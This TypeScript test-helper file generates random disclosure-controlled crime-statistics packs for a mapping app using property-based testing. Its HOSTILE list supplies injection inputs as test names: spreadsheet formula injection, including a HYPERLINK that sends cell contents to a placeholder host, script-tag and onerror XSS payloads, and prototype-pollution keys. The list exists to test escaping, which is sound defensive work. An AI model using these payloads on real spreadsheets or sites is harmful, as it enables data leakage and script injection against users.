/** Random packs, as disclosure control leaves them: no count that the audience may not see. */
import fc from 'fast-check';
import { averageAreaKm2, cellOf, neighbours } from '../../src/lib/core/cells';
import { monthOf, monthStart } from '../../src/lib/core/time';
import { BANDS, ruleOf, type Audience, type Look, type Pack, type PackView, type Sensitivity } from '../../src/lib/disclosure/pack';
import { cornersOf } from '../disclosure/packs';

/** Names that a spreadsheet would run, a page would obey or a file could not hold. */
export const HOSTILE = [
	'=HYPERLINK("http://example.invalid/?"&A1,"Burglary")',
	'+1+1',
	'-2+3',
	'@SUM(A1:A9)',
	' =1+1',
	'＝1+1',
	'\t=1',
	'\r=1',
	'"quoted", with comma',
	'</script><script>alert(1)</script>',
	'</noscript><img src=x onerror=alert(1)>',
	'<!-- <script>',
	'constructor',
	'__proto__',
	'two\nlines',
	'line\u2028and\u2029paragraph',
	"O'Brien & Sons <Ltd>",
	'bell\u0007and null\u0000'
];

const CELLS = 12;
const RESOLUTION = 9;
const cells = neighbours(cellOf(1.0789, 51.2802, RESOLUTION), 2).slice(0, CELLS);

/** A count as an audience may see it; to the analyst as counted. */
export function looks(audience: Audience, sensitivity: Sensitivity): fc.Arbitrary<Look> {
	const { threshold, base, zeroMerges } = ruleOf(audience, sensitivity);
	const told = fc.integer({ min: Math.ceil(threshold / base), max: 800 }).map((steps) => steps * base);
	if (audience === 'analyst') return fc.oneof(fc.constant(0), told);
	return fc.oneof(
		{ weight: 4, arbitrary: told },
		{ weight: 3, arbitrary: fc.constant('few' as const) },
		{ weight: 1, arbitrary: fc.constant('hidden' as const) },
		...(zeroMerges ? [] : [{ weight: 2, arbitrary: fc.constant(0) }])
	);
}

const many = (look: fc.Arbitrary<Look>, count: number): fc.Arbitrary<Look[] | null> =>
	fc.option(fc.array(look, { minLength: count, maxLength: count }), { freq: 5 });

function views(audience: Audience, sensitivity: Sensitivity, months: number, compared: boolean): fc.Arbitrary<PackView<Look>> {
	const look = looks(audience, sensitivity);
	return fc.record({
		total: look,
		before: compared ? look : fc.constant(null),
		cells: many(look, CELLS),
		months: many(look, months),
		bands: many(look, BANDS)
	});
}

const names = fc.oneof(fc.constantFrom(...HOSTILE), fc.constantFrom('Burglary', 'Robbery', 'Shoplifting'), fc.string({ minLength: 1 }));
const sensitivities = fc.constantFrom<Sensitivity>('ordinary', 'sensitive');
const END = monthOf(20_757);

interface Chosen {
	readonly audience: Audience;
	readonly sensitivity: Sensitivity;
	readonly compared: boolean;
	readonly months: number;
	readonly kinds: readonly { readonly name: string; readonly sensitivity: Sensitivity }[];
}

const chosen = (audiences: readonly Audience[]): fc.Arbitrary<Chosen> =>
	fc.record({
		audience: fc.constantFrom(...audiences),
		sensitivity: sensitivities,
		compared: fc.boolean(),
		months: fc.integer({ min: 1, max: 12 }),
		kinds: fc.array(fc.record({ name: names, sensitivity: sensitivities }), { maxLength: 4 })
	});

function packOf({ audience, sensitivity, compared, months, kinds }: Chosen): fc.Arbitrary<Pack> {
	const first = END - months;
	const listed = [
		...(compared ? Array.from({ length: months }, (_, i) => ({ month: first - 12 + i, now: false })) : []),
		...Array.from({ length: months }, (_, i) => ({ month: first + i, now: true }))
	];
	const texts = fc.array(names, { maxLength: 3 });
	return fc.record({
		kind: fc.constant('hexbeat-pack' as const),
		version: fc.constant(1 as const),
		app: fc.constant('Hexbeat 0.1.0'),
		audience: fc.constant(audience),
		sensitivity: fc.constant(sensitivity),
		made: fc.constant('2026-11-22'),
		synthetic: fc.boolean(),
		scope: fc.oneof(fc.constant(''), names),
		period: fc.constant({ from: monthStart(first), to: monthStart(END) }),
		before: fc.constant(compared ? { from: monthStart(first - 12), to: monthStart(END - 12) } : null),
		months: fc.constant(listed),
		gaps: fc.subarray(listed.map(({ month }) => month)),
		sources: texts,
		remarks: texts,
		notes: texts,
		resolution: fc.constant(RESOLUTION),
		cellArea: fc.constant(averageAreaKm2(RESOLUTION)),
		cells: fc.constant(cells),
		corners: fc.constant(cells.map(cornersOf)),
		names: fc.array(names, { minLength: CELLS, maxLength: CELLS }),
		places: fc.constant([{ name: 'Canterbury', lng: 1.0789, lat: 51.2802 }]),
		categories: fc.constant(kinds.map((kind) => ({ ...kind, priority: null }))),
		all: views(audience, sensitivity, listed.length, compared),
		byCategory: fc.tuple(...kinds.map((kind) => views(audience, kind.sensitivity, listed.length, compared))),
		areas: fc.option(
			fc.record({
				kind: fc.constant('ward' as const),
				names: fc.constant(['Barton', 'Northgate', 'Wincheap']),
				now: fc.array(looks(audience, sensitivity), { minLength: 3, maxLength: 3 }),
				before: compared ? fc.array(looks(audience, sensitivity), { minLength: 3, maxLength: 3 }) : fc.constant(null)
			})
		),
		priorities: fc
			.record({ name: names, total: looks(audience, 'ordinary'), before: looks(audience, 'ordinary') })
			.map((priority) => [{ ...priority, before: compared ? priority.before : null, sensitivity: 'ordinary' as const }])
	});
}

/** Packs of some audiences; without them, of every one. */
export const packs = (...audiences: Audience[]): fc.Arbitrary<Pack> =>
	chosen(audiences.length === 0 ? ['analyst', 'partnership', 'public'] : audiences).chain(packOf);
